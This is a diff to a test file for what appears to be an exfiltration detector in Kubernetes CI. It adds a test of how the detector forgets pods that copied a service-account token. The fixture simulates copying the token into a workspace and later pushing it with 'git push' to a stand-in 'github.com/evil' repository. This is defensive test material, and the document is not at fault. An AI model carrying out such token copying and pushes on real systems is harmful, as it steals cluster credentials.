@@ -6,7 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { relinked } from '../../../src/correlate/relinks.js';
-import { runResolved } from './builder.js';
+import { counterValue, runResolved, Scenario } from './builder.js';
 import { type Steps, steps, summary, TOKEN } from './workspace-scenario.js';
 
 const SA = '/var/run/secrets/kubernetes.io/serviceaccount';
@@ -148,5 +148,30 @@ describe('relinked', () => {
   it('resolves a relative symbolic link against its own directory, not the working directory', () => {
     expect(relinked('/bin/ln', '-s ../secrets/token /workspace/t', '/tmp').sources).toEqual(['/secrets/token']);
     expect(relinked('/bin/ln', 'token /workspace/t', SA).sources).toEqual([TOKEN]);
+  });
+});
+
+describe('pods remembered for their copies', () => {
+  it('forget the pod whose last copy is oldest, not the first to copy', async () => {
+    const s = new Scenario();
+    const copyIn = (pod: string) => {
+      const c = s.container({ namespace: 'ci', pod, name: 'step-fetch' });
+      s.exec(c, '/bin/cp', `${TOKEN} /workspace/source/`, { parent: s.init(c) });
+      s.wait(1);
+    };
+    copyIn('run-0');
+    for (let i = 1; i < 1024; i++) copyIn(`run-${i}`);
+    // run-0 copies again: the most recent now; the next new pod evicts run-1.
+    copyIn('run-0');
+    copyIn('run-1024');
+    const step2 = s.container({ namespace: 'ci', pod: 'run-0', name: 'step-build' });
+    const p = s.exec(step2, '/usr/bin/git', 'push https://github.com/evil/x main', { parent: s.init(step2) });
+    s.read(p, '/workspace/source/token', 1_000).connect(p, '140.82.112.3', 443).send(p, '140.82.112.3', 443, 9_000);
+    s.wait(2_000).exit(p).wait(60_000);
+    const { alerts, metrics } = await runResolved(s.events);
+    expect(summary(alerts)).toEqual([
+      ['sensitive-read-then-push', 'high', 'step-build', 'git', ['/workspace/source/token']],
+    ]);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'pod_copy' })).toBe(1);
   });
 });
